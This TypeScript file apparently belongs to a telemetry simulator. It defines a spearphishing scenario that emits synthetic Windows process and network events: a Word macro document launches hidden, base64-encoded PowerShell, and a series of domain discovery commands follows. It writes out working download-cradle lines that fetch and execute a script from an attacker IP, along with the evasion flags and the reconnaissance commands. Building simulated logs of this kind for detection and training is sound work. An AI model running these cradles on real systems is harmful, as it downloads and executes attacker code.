/**
 * Spearphishing with a macro document: Outlook -> WINWORD.EXE opens the attachment -> the macro
 * starts powershell.exe -enc <base64 UTF-16LE download cradle> -> the cradle fetches a second
 * stage from an external address -> hands-on discovery commands.
 */
import { M365 } from '../catalog.js';
import { CMD, CONHOST, CONHOST_CMD, OFFICE, POWERSHELL, S32 } from '../paths.js';
import { attackerIp, type Scenario } from './types.js';

/** PowerShell's -EncodedCommand: base64 of the UTF-16LE script. */
export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

export const phishingEncodedShell: Scenario = {
  name: 'phishing-encoded-shell',
  summary: 'Outlook attachment opens in Word; the macro runs an encoded PowerShell download cradle that reaches an external IP, then discovery commands.',
  techniques: ['T1566.001', 'T1204.002', 'T1059.001', 'T1027', 'T1105', 'T1071.001', 'T1033', 'T1087.002'],
  target: 'none',
  check: (host) => (host.role === 'workstation' ? undefined : 'phishing-encoded-shell needs a workstation (a user reading mail)'),
  build(ctx) {
    const { host, atMs: at, rng } = ctx;
    const b = ctx.on(host);
    const d = ctx.desktop(host, at);
    const outlook = d.outlook ?? b.spawn(at - 45_000, d.shell, `${OFFICE}OUTLOOK.EXE`, `"${OFFICE}OUTLOOK.EXE" `);
    if (!d.outlook) b.web(at - 43_000, outlook, M365.outlook, 9000, 180_000);
    const folder = rng.hex(8).toUpperCase();
    const doc = `C:\\Users\\${host.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${folder}\\${rng.pick(['Facture', 'Relance_facture', 'Avis_de_paiement', 'Bon_de_commande'])}_${2025}-${1000 + rng.int(9000)}.docm`;
    const word = b.spawn(at, outlook, `${OFFICE}WINWORD.EXE`, `"${OFFICE}WINWORD.EXE" /n "${doc}" /o ""`);
    b.web(at + 1800, word, M365.nexus, 1900, 7400);

    const ip = attackerIp(rng);
    const stage = rng.pick(['a.ps1', 'update.ps1', 'inv.txt', 'doc.ps1']);
    const cradle = rng.chance(0.5)
      ? `IEX (New-Object Net.WebClient).DownloadString('http://${ip}/${stage}')`
      : `$w=New-Object System.Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('http://${ip}/${stage}')`;
    const ps = b.spawn(at + 6500, word, POWERSHELL, `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${encodePowerShell(cradle)}`);
    const con = b.spawn(at + 6520, ps, CONHOST, CONHOST_CMD);
    b.connect(at + 8200, ps, ip, 80, 380 + rng.int(100), 60_000 + rng.int(200_000));
    b.connect(at + 11_000, ps, ip, 443, 2400 + rng.int(2000), 9000 + rng.int(20_000));

    // The second stage looks around: who am I, who are the admins, where are the DCs.
    let t = at + 25_000 + rng.int(20_000);
    const discovery: Array<[string, string]> = [
      ['whoami.exe', 'whoami /all'],
      ['net.exe', 'net group "Admins du domaine" /domain'],
      ['nltest.exe', `nltest /dclist:${host.infra.domain}`],
      ['ipconfig.exe', 'ipconfig /all'],
    ];
    for (const [exe, line] of discovery) {
      // cmd.exe shares PowerShell's hidden console: no new conhost.
      const c = b.spawn(t, ps, CMD, `"C:\\Windows\\system32\\cmd.exe" /c ${line}`);
      const p = b.spawn(t + 40, c, `${S32}${exe}`, line);
      if (exe === 'net.exe') b.exit(t + 900, b.spawn(t + 80, p, `${S32}net1.exe`, line.replace(/^net /, 'C:\\Windows\\system32\\net1 ')));
      b.exit(t + 1200 + rng.int(1500), p);
      b.exit(t + 3000, c);
      t += 4000 + rng.int(15_000);
    }
    b.connect(t + 2000, ps, ip, 443, 6000 + rng.int(20_000), 1200);
    b.exit(at + 3 * 60_000 + rng.int(60_000), word);
    b.exit(t + 60_000, con);
    b.exit(t + 60_010, ps);
  },
};
